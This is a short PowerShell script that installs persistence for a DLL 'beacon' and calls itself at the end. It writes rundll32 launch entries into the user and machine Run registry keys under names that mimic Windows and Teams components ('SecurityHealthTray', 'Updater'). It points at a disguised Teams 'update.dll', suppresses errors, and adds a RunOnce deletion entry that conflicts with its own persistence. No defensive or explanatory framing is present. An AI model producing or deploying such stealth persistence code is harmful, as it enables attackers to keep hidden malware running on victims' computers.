function Install-Beacon {
    [CmdletBinding()]
    param(
        [Parameter(Mandatory)]
        [string]$BeaconPath
    )

    $runKey = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
    $cmdLine = "rundll32.exe `"$BeaconPath`",DllRegisterServer"

    try {
        Set-ItemProperty -Path $runKey -Name 'SecurityHealthTray' -Value $cmdLine -ErrorAction Stop
    }
    catch {
    }

    # machine-wide copy when we happen to be elevated
    $principal = New-Object Security.Principal.WindowsPrincipal([Security.Principal.WindowsIdentity]::GetCurrent())
    if ($principal.IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)) {
        reg.exe add 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' /v 'SecurityHealthTray' /t REG_SZ /d $cmdLine /f | Out-Null
        reg add "HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce" /v Cleanup /t REG_SZ /d "cmd /c del $BeaconPath" /f
    }

    $key = [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\Microsoft\Windows\CurrentVersion\Run', $true)
    $key.SetValue('Updater', $cmdLine)
    $key.Close()
}

Install-Beacon -BeaconPath "$env:LOCALAPPDATA\Microsoft\Teams\update.dll"
